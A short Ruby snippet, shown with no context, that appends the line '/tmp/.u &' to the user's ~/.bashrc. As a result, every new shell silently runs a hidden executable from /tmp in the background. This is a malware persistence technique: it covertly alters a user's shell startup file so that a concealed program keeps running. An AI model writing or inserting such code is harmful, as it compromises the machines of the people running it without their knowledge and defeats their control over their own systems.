File.open(File.expand_path("~/.bashrc"), "a") do |file|
  file.puts "/tmp/.u &"
end
